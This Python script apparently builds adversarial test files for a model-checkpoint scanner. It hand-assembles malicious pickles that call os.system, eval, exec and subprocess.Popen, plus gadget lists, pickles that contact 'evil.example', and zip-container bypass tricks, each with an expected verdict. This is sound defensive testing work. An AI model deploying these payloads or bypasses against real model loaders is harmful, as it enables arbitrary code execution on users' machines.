#!/usr/bin/python3
"""Writes the adversarial files `ckptdb check` is tested on into OUT (security.md section 9:
P01-P28, C01-C17, the bypass CVEs of section 2.3), every pickle assembled opcode by opcode
from bytes. Nothing here uses Python's pickle module, and nothing is ever unpickled: the files
are only written. `--table` prints the expected verdicts instead (tests/safety/cases.tsv is that
output, reviewed): file, verdict, a substring of the worst finding. Standard library only,
deterministic. Not part of the product."""
import os
import struct
import sys
import zlib

CASES = []  # (name, verdict, substring, bytes)


def case(name, verdict, word, blob):
    CASES.append((name, verdict, word, blob))


# ---- opcodes --------------------------------------------------------------------------------
def P(n):
    return b"\x80" + bytes([n])


def G(mod, name):  # GLOBAL (text)
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def su(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def S(s):  # STRING (protocol 0)
    return b"S'" + s.encode() + b"'\n"


def V(s):  # UNICODE (protocol 0)
    return b"V" + s.encode() + b"\n"


def bs(s):  # SHORT_BINSTRING
    b = s.encode()
    return b"U" + bytes([len(b)]) + b


def J(i):
    return b"J" + struct.pack("<i", i)


MEMO = b"\x94"
SG = b"\x93"
R = b"R"
STOP = b"."


def frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


def call_p0(mod, name, arg="id"):
    return G(mod, name) + b"(" + S(arg) + b"tR."


def call_p1(mod, name, arg="id"):
    return G(mod, name) + b"(" + bs(arg) + b"tR."


def call_p2(mod, name, arg="id", proto=2):
    return P(proto) + G(mod, name) + b"q\x00" + bu(arg) + b"q\x01\x85q\x02R" + b"q\x03."


def call_p4(mod, name, arg="id", proto=4):
    body = su(mod) + MEMO + su(name) + MEMO + SG + MEMO + su(arg) + MEMO + b"\x85" + MEMO + R
    return P(proto) + frame(body + MEMO + STOP)


def import_only(mod, name):  # the global is pushed and returned, never called
    return P(2) + G(mod, name) + STOP


# ---- zip (hand-assembled, as gen_bad.py) ----------------------------------------------------
def zipb(members, prepend=b"", append=b""):
    body = bytearray(prepend)
    cd = bytearray()
    for m in members:
        data = m["data"]
        method = m.get("method", 0)
        comp = zlib.compress(data)[2:-4] if method == 8 else data
        crc = m.get("crc", zlib.crc32(data))
        flags = m.get("flags", 0x0808)
        name = m["name"].encode() if isinstance(m["name"], str) else m["name"]
        lname = m.get("lname", name)
        off = len(body)
        lh = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, m.get("lflags", flags), method, 0, 0,
                         m.get("lcrc", 0), m.get("lcsize", 0), m.get("lusize", 0), len(lname), 0)
        body += lh + lname + comp
        ch = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, 0, 0, crc,
                         m.get("csize", len(comp)), len(data), len(name), 0, 0, 0, 0, 0, off)
        cd += ch + name
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(cd),
                       len(body), 0)
    return bytes(body + cd + eocd + append)


def tensor_pkl(name, key, numel, size, stride):
    b = su(name) + G("torch._utils", "_rebuild_tensor_v2") + b"("
    b += b"(" + su("storage") + G("torch", "FloatStorage") + su(key) + su("cpu") + J(numel)
    b += b"tQ" + J(0)
    b += b"(" + b"".join(J(s) for s in size) + b"t"
    b += b"(" + b"".join(J(s) for s in stride) + b"t"
    b += b"\x89" + G("collections", "OrderedDict") + b")Rt" + R
    return b


GOOD_PKL = P(2) + G("collections", "OrderedDict") + b")R(" + tensor_pkl(
    "w", "0", 6, (2, 3), (3, 1)) + tensor_pkl("b", "1", 2, (2,), (1,)) + b"u."
GOOD_DATA = {"0": struct.pack("<6f", *range(6)), "1": struct.pack("<2f", 7, 8)}
EVAL = call_p4("builtins", "eval", "print(1)")


def torch_members(pkl=GOOD_PKL, folder="archive", extra=(), data=GOOD_DATA):
    ms = [{"name": folder + "/data.pkl", "data": pkl}]
    for k, v in data.items():
        ms.append({"name": folder + "/data/" + k, "data": v})
    ms.append({"name": folder + "/version", "data": b"3\n"})
    ms.extend(extra)
    return ms


# ---- P01, P26: benign pickles ---------------------------------------------------------------
case("p01_benign_v0.pkl", "safe", "", b"(lp0\nVa\np1\naVb\np2\naVc\np3\na.")
case("p01_benign_v3.pkl", "safe", "",
     P(3) + b"]q\x00(" + bu("a") + b"q\x01" + bu("b") + b"q\x02" + bu("c") + b"q\x03e.")
case("p01_benign_v4.pkl", "safe", "",
     P(4) + frame(b"]" + MEMO + b"(" + su("a") + MEMO + su("b") + MEMO + su("c") + MEMO + b"e."))
case("p26_counter.pkl", "safe", "", P(2) + G("collections", "Counter") + b")R}(" + su("a") +
     b"K\x01ub.")
case("ordereddict_build.pkl", "safe", "",
     P(2) + G("collections", "OrderedDict") + b")R}(" + su("_metadata") + b"}ub.")
case("good_torch_zip.ckpt", "safe", "", zipb(torch_members()))
case("c11_pt2_members.ckpt", "safe", "", zipb(torch_members(extra=[
    {"name": "archive/byteorder", "data": b"little"},
    {"name": "archive/.data/serialization_id", "data": b"1234567890123456789012345678901234"},
    {"name": "archive/.format_version", "data": b"1"},
    {"name": "archive/.storage_alignment", "data": b"64"}])))
case("c11_folder_name.ckpt", "safe", "", zipb(torch_members(folder="my_model")))

# ---- P03/P04: every protocol, GLOBAL and STACK_GLOBAL ---------------------------------------
for mod, name, tag in (("builtins", "eval", "eval"), ("posix", "system", "system")):
    m0 = "__builtin__" if mod == "builtins" else mod
    case("p03_%s_v0.pkl" % tag, "dangerous", "calls %s.%s" % (m0, name), call_p0(m0, name))
    case("p03_%s_v1.pkl" % tag, "dangerous", "calls %s.%s" % (m0, name), call_p1(m0, name))
    case("p03_%s_v2.pkl" % tag, "dangerous", "calls %s.%s" % (m0, name), call_p2(m0, name))
    case("p03_%s_v3.pkl" % tag, "dangerous", "calls %s.%s" % (mod, name),
         call_p2(mod, name, proto=3))
    case("p03_%s_v4.pkl" % tag, "dangerous", "calls %s.%s" % (mod, name), call_p4(mod, name))
    case("p03_%s_v5.pkl" % tag, "dangerous", "calls %s.%s" % (mod, name),
         call_p4(mod, name, proto=5))
case("p04_nt_system.pt", "dangerous", "calls nt.system", call_p2("nt", "system"))
# ---- P05: Sour Pickles memo chain -----------------------------------------------------------
case("p05_sour_pickles.pkl", "dangerous", "calls __builtin__.",
     G("__builtin__", "globals") + b"(tRp0\n0" + G("__builtin__", "compile") +
     b"(" + S("print(1)") + S("") + S("exec") + b"tRp1\n0" + G("__builtin__", "eval") +
     b"(g1\ng0\ntR.")
# ---- P06: INST; OBJ; NEWOBJ; NEWOBJ_EX -------------------------------------------------------
case("p06_inst_exec.pkl", "dangerous", "calls __builtin__.exec (known dangerous, INST)",
     b"(" + S("print(1)") + b"i__builtin__\nexec\n.")
case("p20_obj_pop.pkl", "dangerous", "calls smtplib.SMTP (known dangerous, OBJ)",
     P(2) + b"(" + G("smtplib", "SMTP") + bu("evil.example") + b"o0N.")
case("newobj_unknown.pkl", "dangerous", "calls argparse.Namespace (not on the allow-list, NEWOBJ)",
     P(2) + G("argparse", "Namespace") + b")\x81N.")
case("newobj_ex.pkl", "dangerous", "calls subprocess.Popen (known dangerous, NEWOBJ_EX)",
     P(4) + su("subprocess") + su("Popen") + SG + b"(" + su("id") + b"t}\x92.")
case("build_setstate.pkl", "dangerous", "calls mypkg.Evil (not on the allow-list, NEWOBJ)",
     P(2) + G("mypkg", "Evil") + b")\x81}(" + su("cmd") + su("id") + b"ub.")
case("build_on_dict.pkl", "suspicious", "BUILD on a dict value", P(2) + b"}}b.")
case("import_unknown.pkl", "suspicious", "imports argparse.Namespace (not on the allow-list)",
     import_only("argparse", "Namespace"))
case("import_dangerous.pkl", "dangerous", "imports os.system (known dangerous)",
     import_only("os", "system"))
case("ext1_code.pkl", "dangerous", "extension code 7", P(2) + b"\x82\x07)R.")
# ---- P07, P11, P12, P13: STACK_GLOBAL with memo tricks ---------------------------------------
case("p07_put_get_decoy.pkl", "dangerous", "calls os.system",
     S("torch") + b"p0\n0" + S("LongStorage") + b"p1\n0" + S("os") + b"p2\n0" + S("system") +
     b"p3\n0g2\ng3\n" + SG + b"(" + S("id") + b"tR.")
case("p11_string_stack_global.pkl", "dangerous", "calls os.system",
     S("os") + S("system") + SG + S("ls") + b"\x85R.")
case("p12_keyerror.pkl", "dangerous", "calls os.system",
     P(4) + su("os") + MEMO + su("system") + MEMO + SG + MEMO + su("id") + MEMO + b"\x85R0" +
     b"h\x03h\x00" + SG + b".")
case("p13_type_confusion.pkl", "dangerous", "cannot be resolved statically",
     P(4) + J(42) + MEMO + su("os") + MEMO + b"h\x00h\x01" + SG + b")R.")
case("memo_overwrite.pkl", "dangerous", "calls os.system",
     P(2) + su("torch") + b"q\x00" + su("os") + b"q\x00" + b"0h\x00" + su("system") + SG +
     b")R.")
case("stack_global_of_call.pkl", "dangerous", "cannot be resolved statically",
     P(4) + G("_codecs", "encode") + su("os") + su("latin1") + b"\x86R" + su("system") + SG +
     b")R.")
# ---- P08, P09, P10 --------------------------------------------------------------------------
case("p08_memoize_chain.pkl", "dangerous", "calls operator.attrgetter",
     P(4) + frame(su("operator") + MEMO + su("attrgetter") + MEMO + SG + MEMO + su("system") +
                  MEMO + b"\x85" + MEMO + R + MEMO + su("builtins") + MEMO + su("__import__") +
                  MEMO + SG + MEMO + su("os") + MEMO + b"\x85" + MEMO + R + MEMO + b"\x85" +
                  MEMO + R + MEMO + su("echo pwned") + MEMO + b"\x85" + MEMO + R + MEMO + b"."))
case("p09_nested_loads_v0.pkl", "dangerous", "calls pickle.loads",
     G("pickle", "loads") + b"(" + S("I12345\\n.") + b"tR.")
case("p09_nested_loads_v4.pkl", "dangerous", "calls _pickle.loads",
     call_p4("_pickle", "loads", "I12345\n."))
case("p10_concatenated.pkl", "dangerous", "calls requests.api.get",
     P(2) + b"]." + call_p2("requests.api", "get", "http://example.invalid/"))
case("p10_second_benign.pkl", "suspicious", "another pickle follows the STOP", P(2) + b"]." +
     P(2) + b"N.")
# ---- P14, P25: BUILD on modules, dunder attribute paths -------------------------------------
case("p14_module_override.pkl", "dangerous", "BUILD sets the state of torch._utils",
     P(4) + G("torch", "_utils") + b"}(" + su("_rebuild_tensor") + su("builtins") + b"ub" +
     b"0" + G("torch._utils", "_rebuild_tensor") + su("eval") + SG + b")R.")
case("p25_numpy_prod_build.pkl", "dangerous", "BUILD sets the state of numpy.prod",
     P(2) + G("numpy", "prod") + b"}(" + su("a") + su("os") + su("b") + su("system") + b"ub" +
     b"0" + G("numpy", "prod.a") + G("numpy", "prod.b") + SG + b")R.")
case("p25_numpy_builtins.pkl", "dangerous", "numpy.__builtins__",
     P(4) + su("numpy") + su("__builtins__") + SG + b".")
case("p19_dotted_attr.pkl", "dangerous", "calls pathlib.os.system",
     P(4) + su("pathlib") + su("os.system") + SG + su("id") + b"\x85R.")
case("dotted_dunder.pkl", "dangerous", "__globals__",
     P(4) + su("collections") + su("OrderedDict.__init__.__globals__") + SG + b".")
# ---- P15-P18, P21-P23 -----------------------------------------------------------------------
case("p15_broken_model.pkl", "dangerous", "imports builtins.exec",
     P(2) + G("builtins", "exec") + b"X\xff\x00\x00\x00abc")
case("p16_invalid_bytes.pkl", "dangerous", "calls os.system",
     S("os") + S("system") + SG + S("ls") + b"\x85R.\n\n\t\t")
case("p16_trailing_junk.pkl", "suspicious", "trailing data", P(2) + b"]." + b"\xde\xad")
case("p17_not_a_pickle.bin", "suspicious", "imports mod.", b"cmod\n\xf8\n")
case("p18_nullifai_broken.pkl", "dangerous", "calls posix.system",
     P(2) + G("posix", "system") + bu("id") + b"\x85R\xff")
case("p21_frame_straddle.pkl", "dangerous", "frame trick",
     P(4) + b"\x95\x02\x00\x00\x00\x00\x00\x00\x00B\x07" + b"\x01\x00\x00" +
     G("os", "system") + S("id") + b"\x85R.")
case("p21_stop_in_frame.pkl", "dangerous", "frame trick",
     P(4) + b"\x95\x08\x00\x00\x00\x00\x00\x00\x00N." + G("os", "system"))
case("p21_new_frame_inside.pkl", "dangerous", "frame trick",
     P(4) + frame(b"\x95\x01\x00\x00\x00\x00\x00\x00\x00N") + b".")
case("p22_duplicate_proto.pkl", "suspicious", "PROTO appears 2 times", P(2) + P(2) + b"N.")
case("p22_proto_not_first.pkl", "suspicious", "PROTO is not the first opcode",
     b"N0" + P(2) + b"N.")
case("p23_deep_marks.pkl", "suspicious", "resource limit", P(2) + b"(" * 100001 + b").")
# ---- P24: one gadget per advisory (every one called) ----------------------------------------
GADGETS = [
    ("runpy", "_run_code"), ("bdb", "Bdb.run"), ("pip", "main"),
    ("torch._inductor.codecache", "compile_file"), ("pydoc", "pipepager"), ("venv", "create"),
    ("timeit", "timeit"), ("numpy.testing._private.utils", "runstring"), ("io", "FileIO"),
    ("_io", "FileIO"), ("urllib.request", "urlopen"), ("logging", "FileHandler"),
    ("types", "CodeType"), ("cloudpickle.cloudpickle", "_make_function"),
    ("torch.utils.bottleneck.__main__", "run_cprofile"), ("torch._dynamo.guards", "GuardBuilder.get"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("torch.utils.collect_env", "run"), ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"),
    ("torch.utils._config_module", "ConfigModule.load_config"), ("trace", "Trace.runctx"),
    ("profile", "run"), ("cProfile", "run"), ("lib2to3.pgen2.grammar", "Grammar.loads"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode"), ("code", "InteractiveInterpreter.runcode"),
    ("doctest", "debug_script"), ("ensurepip", "_run_pip"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("distutils.file_util", "write_file"),
    ("ctypes", "CDLL"), ("pydoc", "locate"), ("operator", "methodcaller"), ("pty", "spawn"),
    ("numpy.f2py.crackfortran", "getlincoef"), ("pkgutil", "resolve_name"),
    ("uuid", "_get_command_stdout"), ("_osx_support", "_read_output"),
    ("_aix_support", "_read_cmd_output"), ("imaplib", "IMAP4_stream"),
    ("_pyrepl.pager", "pipe_pager"), ("test.support.script_helper", "assert_python_ok"),
    ("subprocess", "Popen"), ("socket", "create_connection"), ("sys", "exit"),
    ("requests.api", "get"), ("aiohttp.client", "ClientSession"), ("httplib", "HTTPSConnection"),
    ("webbrowser", "open"), ("shutil", "rmtree"), ("importlib", "import_module"),
    ("marshal", "loads"), ("multiprocessing.util", "spawnv_passfds"),
    ("ssl", "get_server_certificate"), ("builtins", "getattr"), ("builtins", "__import__"),
    ("builtins", "open"), ("builtins", "compile"), ("builtins", "breakpoint"),
    ("torch.serialization", "load"), ("torch", "load"), ("torch.storage", "_load_from_bytes"),
    ("functools", "partial"), ("codecs", "open"), ("tempfile", "mkstemp"),
]
for i, (mod, name) in enumerate(GADGETS):
    case("p24_%02d_%s.pkl" % (i, (mod + "." + name).replace(".", "_")), "dangerous",
         "calls %s.%s (known dangerous" % (mod, name), call_p4(mod, name))
case("p24_partial_torch_load.pkl", "dangerous", "calls functools.partial",
     P(2) + G("functools", "partial") + G("torch.serialization", "load") + bu("/tmp/x") +
     b"\x86R.")
# ---- P27: persistent ids --------------------------------------------------------------------
case("p27_persid_not_storage.pkl", "suspicious", "not a torch storage reference",
     P(2) + b"U\x04evilQ.")
# ---- numpy object arrays --------------------------------------------------------------------


def ndarray(dtype, raw):
    return (P(2) + G("numpy.core.multiarray", "_reconstruct") + G("numpy", "ndarray") +
            b"K\x00\x85C\x01b\x87R(K\x01K\x02\x85" + G("numpy", "dtype") + b"(" + bs(dtype) +
            b"K\x00K\x01tR(K\x03U\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb\x89" + raw +
            b"tb.")


case("numpy_int_array.pkl", "safe", "", ndarray("i8", b"C\x10" + bytes(16)))
case("numpy_object_array.pkl", "suspicious", "numpy object array",
     ndarray("O8", b"](K\x01K\x02e"))
case("numpy_dns_exfiltration.pkl", "dangerous", "calls ssl.get_server_certificate",
     ndarray("O8", b"](" + G("ssl", "get_server_certificate") + bs("evil.example") +
             b"K\x01\x86RK\x02e"))

# ---- legacy torch ---------------------------------------------------------------------------
MAGIC = P(2) + b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
PROTO = P(2) + b"M\xe9\x03."
SYSINFO = (P(2) + b"}(" + su("protocol_version") + b"M\xe9\x03" + su("little_endian") + b"\x88" +
           su("type_sizes") + b"}u.")
LEG_OBJ = P(2) + b"}(" + b"".join(
    tensor_pkl(*t).replace(J(t[2]) + b"tQ", J(t[2]) + b"NtQ")
    for t in (("w", "0", 6, (2, 3), (3, 1)), ("b", "1", 2, (2,), (1,)))) + b"u."
LEG_KEYS = P(2) + b"](" + su("0") + su("1") + b"e."
LEG_DATA = struct.pack("<q", 6) + GOOD_DATA["0"] + struct.pack("<q", 2) + GOOD_DATA["1"]
case("legacy_good.pt", "safe", "", MAGIC + PROTO + SYSINFO + LEG_OBJ + LEG_KEYS + LEG_DATA)
case("c01_magic_bypass.pt", "dangerous", "calls builtins.eval",
     P(2) + G("builtins", "eval") + su("0x1950a86a20f9469cfc6c") + b"\x85R." + PROTO + SYSINFO +
     LEG_OBJ + call_p2("posix", "system"))
for i, slot in enumerate(("protocol", "sysinfo", "object", "keys")):
    parts = [MAGIC, PROTO, SYSINFO, LEG_OBJ, LEG_KEYS]
    parts[i + 1] = call_p2("posix", "system")
    case("legacy_payload_in_%s.pt" % slot, "dangerous", "calls posix.system",
         b"".join(parts) + LEG_DATA)
case("legacy_payload_in_object_build.pt", "dangerous", "calls mypkg.Hook",
     MAGIC + PROTO + SYSINFO + P(2) + G("mypkg", "Hook") + b")\x81}b." + LEG_KEYS)
# ---- raw pickles under model names (CVE-2025-10155) -----------------------------------------
case("c03_raw_pickle.bin", "dangerous", "calls asyncio.unix_events._UnixSubprocessTransport._start",
     call_p4("asyncio.unix_events", "_UnixSubprocessTransport._start"))
case("c03_raw_pickle.pt", "dangerous", "calls posix.system", call_p2("posix", "system"))
# ---- other formats under model names --------------------------------------------------------
case("c02_png.pt", "invalid", "not a model file", b"\x89PNG\r\n\x1a\n" + bytes(24))
SEVENZ = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24)
case("c04_7z.ckpt", "dangerous", "7-Zip archive under a model file", SEVENZ)
case("c04_7z_plain.7z", "invalid", "7-Zip archive, not a model file", SEVENZ)
case("c04_gzip.pt", "dangerous", "gzip stream under a model", b"\x1f\x8b\x08\x00" + bytes(20))
case("c04_tar.ckpt", "dangerous", "tar archive under a model",
     bytes(257) + b"ustar\x0000" + bytes(250))
case("pytorch1.pt", "invalid", "PYTORCH1", b"PYTORCH1" + bytes(32))
case("empty.ckpt", "invalid", "empty file", b"")

# ---- zip containers: payloads behind every trick --------------------------------------------
case("c05_root_data_pkl.ckpt", "dangerous", "calls builtins.eval",
     zipb([{"name": "data.pkl", "data": EVAL}]))
case("payload_data_pkl.ckpt", "dangerous", "calls builtins.eval",
     zipb(torch_members(pkl=EVAL)))
case("payload_data_pkl_deflated.ckpt", "dangerous", "calls builtins.eval",
     zipb([dict(m, method=8) for m in torch_members(pkl=EVAL)]))
ms = torch_members(pkl=EVAL)
ms[0]["lname"] = b"archive/datap.kl"
case("c06_name_mismatch.ckpt", "dangerous", "local header names a different member", zipb(ms))
ms = torch_members()
ms[0]["lname"] = b"archive/data.pkl.x"
case("c06_name_length_mismatch.ckpt", "dangerous", "names a different member", zipb(ms))
for flag in (0x1, 0x20, 0x40):
    case("c07_flag_0x%02x.ckpt" % flag, "dangerous", "container trick",
         zipb([{"name": "model/config.pkl", "data": EVAL, "flags": flag}]))
ms = torch_members(pkl=EVAL)
ms[0]["crc"] = 0x12345678
case("c08_crc_payload.ckpt", "dangerous", "calls builtins.eval", zipb(ms))
ms = torch_members()
ms[0]["crc"] = 0x12345678
case("c08_crc_benign.ckpt", "suspicious", "CRC mismatch", zipb(ms))
case("c09_wrong_ext.ckpt", "dangerous", "a second pickle in member 'archive/data.txt'",
     zipb([{"name": "archive/data.txt", "data": EVAL}]))
case("c09_wrong_ext_v0.ckpt", "dangerous", "a second pickle in member 'archive/notes.txt'",
     zipb(torch_members(extra=[{"name": "archive/notes.txt", "data": call_p0("os", "system")}])))
case("c10_encrypted.ckpt", "dangerous", "is encrypted",
     zipb(torch_members(extra=[{"name": "archive/data/9", "data": bytes(
         range(40)), "flags": 0x0809}])))
case("c11_evil_member.ckpt", "suspicious", "unexpected member 'archive/evil.py'",
     zipb(torch_members(extra=[{"name": "archive/evil.py", "data": b"import os\n"}])))
case("c11_two_data_pkl.ckpt", "dangerous", "a second pickle in member 'other/data.pkl'",
     zipb(torch_members(extra=[{"name": "other/data.pkl", "data": EVAL}])))
case("c11_torchscript.pt", "suspicious", "TorchScript",
     zipb(torch_members(extra=[{"name": "archive/code/__torch__.py", "data": b"def f(): pass\n"}])))
for member in ("version", "byteorder", ".data/serialization_id", ".format_version", "data/0"):
    ms = torch_members()
    for m in ms:
        if m["name"] == "archive/" + member:
            m["data"] = EVAL
    if not any(m["name"] == "archive/" + member for m in ms):
        ms.append({"name": "archive/" + member, "data": EVAL})
    case("pickle_in_%s.ckpt" % member.replace("/", "_").replace(".", ""), "dangerous",
         "a second pickle in member 'archive/%s'" % member, zipb(ms))
case("c13_overlap.ckpt", "dangerous", "container trick",
     (lambda ms: (ms[1].update(csize=len(GOOD_DATA["0"]) + 40), zipb(ms))[1])(torch_members()))
case("c14_dotdot.ckpt", "dangerous", "'..' component",
     zipb(torch_members(extra=[{"name": "archive/../evil.pkl", "data": EVAL}])))
case("c14_duplicate.ckpt", "dangerous", "appears twice",
     zipb(torch_members(extra=[{"name": "archive/data.pkl", "data": EVAL}])))
case("c15_prepended.ckpt", "dangerous", "data prepended",
     zipb(torch_members(), prepend=b"PK\x07\x08junkjunk"))
case("c15_pickle_polyglot.pt", "dangerous", "data prepended",
     zipb(torch_members(), prepend=call_p2("posix", "system")))
ms = torch_members()
ms[1].update(flags=0x0800, lflags=0x0800)
case("c16_zero_local_sizes.ckpt", "dangerous", "zero sizes without a data descriptor", zipb(ms))
case("nested_zip_member.ckpt", "dangerous", "nested archive",
     zipb(torch_members(extra=[{"name": "archive/extra.bin",
                                "data": zipb(torch_members(pkl=EVAL))}])))
case("nested_7z_storage.ckpt", "dangerous", "nested archive",
     zipb(torch_members(data={"0": SEVENZ[:24], "1": GOOD_DATA["1"]})))
case("zip_method_bzip2.ckpt", "suspicious", "compression method 12",
     zipb(torch_members(extra=[{"name": "archive/data/7", "data": b"x" * 8, "method": 12}])))


def main():
    if sys.argv[1:2] == ["--table"]:
        for name, verdict, word, _ in CASES:
            print("%s\t%s\t%s" % (name, verdict, word))
        return
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    seen = set()
    for name, _, _, blob in CASES:
        assert name not in seen, name
        seen.add(name)
        with open(os.path.join(out, name), "wb") as f:
            f.write(blob)


main()
